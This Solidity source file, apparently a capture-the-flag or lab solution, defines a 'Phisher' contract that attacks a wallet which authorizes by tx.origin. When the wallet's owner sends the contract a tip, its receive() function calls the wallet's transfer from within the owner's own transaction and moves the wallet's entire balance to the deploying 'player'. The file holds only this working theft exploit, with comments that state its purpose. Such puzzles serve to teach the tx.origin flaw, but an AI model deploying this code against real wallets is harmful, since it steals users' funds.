// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// @title What the phisher needs to know about the wallet.
interface IWallet {
    function transfer(address payable to, uint256 amount) external;
}

/// @title When the wallet's owner sends it a tip, it empties her wallet into the player's.
contract Phisher {
    IWallet private immutable _wallet;
    address payable private immutable _player;

    constructor(address wallet) {
        _wallet = IWallet(wallet);
        _player = payable(msg.sender);
    }

    /// @notice Runs inside the owner's own transaction: tx.origin is the owner.
    receive() external payable {
        _wallet.transfer(_player, address(_wallet).balance);
    }
}
